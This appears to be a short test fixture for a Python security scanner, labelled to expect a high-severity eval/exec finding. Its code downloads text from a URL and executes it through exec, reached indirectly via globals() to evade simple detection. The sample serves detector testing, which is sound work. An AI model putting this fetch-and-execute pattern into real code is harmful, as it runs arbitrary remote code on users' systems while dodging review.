# expect: python.eval_exec high
# note: exec as an attribute of the builtins module found in globals()
# path: app/globals_builtins_exec.py
import requests
globals()["__builtins__"].exec(requests.get(URL).text)
